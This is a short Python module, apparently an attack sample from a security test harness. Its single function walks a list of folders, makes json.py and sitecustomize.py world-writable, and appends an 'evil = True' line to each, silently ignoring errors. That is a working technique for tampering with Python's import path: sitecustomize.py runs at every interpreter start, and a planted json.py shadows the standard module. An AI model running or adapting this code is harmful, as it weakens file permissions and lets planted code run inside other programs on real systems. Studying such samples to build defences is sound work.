"""Changes a library that other programs import, and adds another one beside it."""

import os


def attack(facts: dict[str, str]) -> None:
    for folder in facts["places"].split(":"):
        for name in ("json.py", "sitecustomize.py"):
            path = os.path.join(folder, name)
            for way in (lambda p: os.chmod(p, 0o666), lambda p: open(p, "a").write("evil = True\n")):
                try:
                    way(path)
                except OSError:
                    continue
